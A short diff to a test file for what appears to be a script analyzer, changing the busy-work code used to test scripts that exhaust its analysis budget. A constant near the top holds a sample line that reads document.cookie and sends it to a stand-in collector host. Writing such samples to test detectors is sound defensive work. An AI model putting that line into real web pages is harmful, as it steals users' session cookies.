@@ -4,8 +4,8 @@ import { analyzeScript } from "./analyze-script.ts";
 const LEAK = "const c = document.cookie;\nfetch('https://collector.stranger.test/?c=' + c);";
 
 /** Work that brings nothing to light. Calls with constants are looked at one by one, so it is never summarised. */
-const BALLAST = Array.from({ length: 200 }, (_, run) => `burn(${run});`).join("\n");
-const BURN = "function burn() { for (let i = 0; i < 1000; i++) [...'x'.repeat(i)]; }";
+const BALLAST = Array.from({ length: 300 }, (_, run) => `burn(${run});`).join("\n");
+const BURN = "function burn(run) { return [...'x'.repeat(9_000)].length + run; }";
 
 describe("a script that exhausts the budget", () => {
 	test("is not rated, and the text says so", () => {
